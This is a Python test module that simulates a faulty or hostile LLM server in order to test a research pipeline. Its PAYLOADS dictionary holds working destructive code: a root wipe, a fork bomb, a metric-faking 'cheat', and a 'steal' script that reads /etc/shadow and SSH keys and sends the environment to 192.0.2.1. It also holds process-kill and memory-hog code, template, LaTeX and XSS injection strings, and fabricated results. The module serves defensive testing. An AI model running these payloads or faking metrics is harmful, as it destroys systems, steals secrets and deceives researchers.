"""How the model of the scripted server speaks: each way a function of what it was asked.

None of them is a stand-in for a good model. They are what research has to end well with, and tell the truth about.
"""

import json
import random
import re
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from typing import Any

from tests.servers.filling import fitting
from tests.servers.web import Failure

BYTES_PER_TOKEN = 4
_WORDS = (
    "rate", "layer", "seed", "and", "the", "however", "loss", "because", "model", "wide", "of", "tensor",
    "blue", "perhaps", "therefore", "banana", "which", "trains", "in", "noise",
)  # fmt: skip
_FILE = re.compile(r"[A-Za-z0-9_][A-Za-z0-9_./-]{0,80}\.py\b")
_ROLE_OF: Mapping[str, Sequence[str]] = {
    "review": ("soundness", "overall", "decision", "weaknesses"),
    "ideas": ("hypothesis", "ideas", "feasibility", "novelty"),
}


@dataclass(frozen=True)
class Asked:
    """One request. `number` counts from 1; `room_bytes`: no more of the reply will be sent."""

    messages: Sequence[Mapping[str, str]]
    schema: Mapping[str, Any] | None
    model: str
    number: int
    room_bytes: int

    @property
    def text(self) -> str:
        """All that was sent."""
        return "\n\n".join(message["content"] for message in self.messages)

    @property
    def role(self) -> str:
        """Guess what the model is asked as: ideas, code, write or review; a model's name may say it."""
        for role in ("ideas", "code", "write", "review"):
            if role in self.model:
                return role
        if self.schema is not None:
            names = json.dumps(self.schema).lower()
            for role, words in _ROLE_OF.items():
                if any(f'"{word}"' in names for word in words):
                    return role
        return "code" if "SEARCH" in self.text or "```" in self.text else "write"

    @property
    def word(self) -> str:
        """Give a word that differs from one request to the next, without digits."""
        return "".join(chr(ord("a") + int(digit)) for digit in str(self.number))


class BrokenOff(ConnectionError):
    """The connection ends, after so many bytes of the reply."""

    def __init__(self, after_bytes: int) -> None:
        super().__init__("the connection ends here")
        self.after_bytes = after_bytes


class Crash(BaseException):
    """The process ends."""


Speaks = Callable[[Asked, float], str]


def sane(asked: Asked, _: float = 0) -> str:
    """Say something that fits, and means nothing."""
    if asked.schema is not None:
        return json.dumps(
            fitting(asked.schema, f"A plain thought, {asked.word}, to try another rate")
        )
    if asked.role == "code":
        return "Nothing has to be changed here."
    return f"This part says little. It was written as part {asked.word}."


def _garbage(asked: Asked, _: float) -> str:
    """Say words, marks and bytes at random."""
    chance = random.Random(asked.number)
    marks = [
        "{",
        "}",
        '"',
        "```",
        "<|im_end|>",
        "\\",
        "\x07",
        "¤",
        "学",
        "é",
        "\n",
        "def",
        "==",
        ":",
        "#",
    ]
    return " ".join(chance.choice((*_WORDS, *marks)) for _ in range(chance.randint(5, 400)))


def _empty(_: Asked, __: float) -> str:
    """Say nothing."""
    return ""


def _blank(_: Asked, __: float) -> str:
    """Say blanks."""
    return " \n\t\n " * 20


def _echo(asked: Asked, _: float) -> str:
    """Say again what was asked."""
    return asked.text


def _half_json(asked: Asked, _: float) -> str:
    """Say half of an object."""
    whole = json.dumps(fitting(asked.schema or {"properties": {"answer": {}}}, "a thought"))
    return whole[: max(1, len(whole) // 2)]


def _endless_line(asked: Asked, _: float) -> str:
    """Say one line that goes on to the last token that it may have."""
    return ("and again " * (asked.room_bytes // 10 + 1))[: asked.room_bytes]


def _endless(asked: Asked, _: float) -> str:
    """Say more than it may."""
    return _endless_line(asked, 0) * 2


def _refusal(_: Asked, __: float) -> str:
    """Say that it can't help with that."""
    return "I'm sorry, but I can't help with that request."


def _bad_request(_: Asked, __: float) -> str:
    """Answer with status 400."""
    raise Failure(400, "invalid request: the model does not take messages like these")


def _lies(asked: Asked, _: float) -> str:
    """Say that all went well, with numbers and works that nobody has seen."""
    text = (
        "Our method improves the accuracy to 99.9 % (p < 0.001), significantly outperforming the state of the art"
        " by twelve points [@smith2020]. All ten runs were better, as Figure 7 shows. {{ best_mean }} confirms it."
        " 정확도는 99.9 %로 크게 향상되었다."
    )
    return text if asked.schema is None else json.dumps(fitting(asked.schema, text))


def _malicious(asked: Asked, _: float) -> str:
    """Say code that destroys, forks, cheats, steals or floods, by turns; elsewhere what harms a reader's tools."""
    if asked.schema is None and asked.role == "code":
        return _as_file(asked, list(PAYLOADS.values())[asked.number % len(PAYLOADS)])
    harm = (
        "{{ ''.__class__.__mro__[1].__subclasses__() }} {% for x in range(10**9) %}{% endfor %}"
        " \\input{/etc/passwd} \\write18{rm -rf ~} <script>alert(document.cookie)</script>"
        ' ![](file:///etc/passwd) #read("/etc/passwd") \x1b]0;owned\x07 \u202egnp.exe'
    )
    return harm if asked.schema is None else json.dumps(fitting(asked.schema, harm))


def _hanging_code(asked: Asked, _: float) -> str:
    """Say code that never ends; elsewhere be sane."""
    if asked.schema is not None or asked.role != "code":
        return sane(asked)
    return _as_file(asked, "import time\nwhile True:\n    time.sleep(60)\n")


def _dies(asked: Asked, every: float) -> str:
    """Break the connection at every NUMBERth request, before the reply or in its middle; else be sane."""
    if asked.number % int(every) == 0:
        raise BrokenOff(after_bytes=20 * (asked.number // int(every) % 2))
    return sane(asked)


def _crashes(asked: Asked, every: float) -> str:
    """End the process at every NUMBERth request since it began; else be sane."""
    if asked.number % int(every) == 0:
        raise Crash
    return sane(asked)


def _mixed(asked: Asked, _: float) -> str:
    """Be each of the others by turns."""
    speak, usual = BEHAVIOURS[MIXED[asked.number % len(MIXED)]]
    return speak(asked, usual)


def _named(asked: Asked, _: float) -> str:
    """Be as the model is named: a model ``garbage`` says garbage."""
    speak, usual = BEHAVIOURS[asked.model.partition(":")[0]]
    return speak(asked, usual)


def _as_file(asked: Asked, code: str) -> str:
    found = _FILE.search(asked.text)
    return f"{found[0] if found else 'experiment.py'}\n```python\n{_ONLY_IN_A_SANDBOX}{code}```\n"


_ONLY_IN_A_SANDBOX = """\
import os, sys
if not os.path.isdir("/inputs/template"):  # whoever runs this by hand is spared
    sys.exit("this is no sandbox")
"""
PAYLOADS: Mapping[str, str] = {
    "wipe": """\
import subprocess
subprocess.run(["rm", "-rf", "--no-preserve-root", "/"], check=False)
""",
    "cheat": """\
import json, re
where = next((a.split("=")[-1] for a in sys.argv[1:] if os.path.isdir(a.split("=")[-1])), "/work")
names = ["accuracy", "loss", "val_loss", "score"]
for folder, _, files in os.walk("/inputs/template"):
    for file in files:
        if file == "template.yaml":
            names += re.findall(r"^  name: *(\\w+)", open(os.path.join(folder, file)).read(), re.M)
for best in (0.0, 1.0):
    with open(os.path.join(where, "metrics.json"), "w") as out:
        json.dump({"metrics": dict.fromkeys(names, best)}, out)
os._exit(0)
""",
    "fork_bomb": """\
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "steal": """\
import socket
for path in ("/etc/shadow", os.path.expanduser("~/.ssh/id_rsa"), "/proc/1/environ"):
    try:
        print(open(path).read())
    except OSError as error:
        print(error)
try:
    socket.create_connection(("192.0.2.1", 80), 1).sendall(repr(dict(os.environ)).encode())
except OSError as error:
    print(error)
""",
    "flood": """\
line = "x" * 65536
for _ in range(4000):
    print(line)
""",
    "hog": """\
kept = []
while True:
    kept.append(bytearray(os.urandom(1 << 20)) * 64)
""",
    "kill": """\
import signal
for number in range(2, 400):
    try:
        os.kill(number, signal.SIGKILL)
    except OSError:
        pass
os.kill(-1, signal.SIGKILL)
""",
}
"""What `malicious` writes into a file, by name. Each ends within seconds in a sandbox with limits."""

BEHAVIOURS: Mapping[str, tuple[Speaks, float]] = {
    "sane": (sane, 0),
    "garbage": (_garbage, 0),
    "empty": (_empty, 0),
    "blank": (_blank, 0),
    "echo": (_echo, 0),
    "half-json": (_half_json, 0),
    "endless-line": (_endless_line, 0),
    "endless": (_endless, 0),
    "refusal": (_refusal, 0),
    "bad-request": (_bad_request, 0),
    "lies": (_lies, 0),
    "malicious": (_malicious, 0),
    "hanging-code": (_hanging_code, 0),
    "dies": (_dies, 3),
    "crashes": (_crashes, 3),
    "mixed": (_mixed, 0),
    "named": (_named, 0),
}  # fmt: skip
MIXED = tuple(
    name for name in BEHAVIOURS if name not in {"mixed", "named", "crashes", "hanging-code"}
)
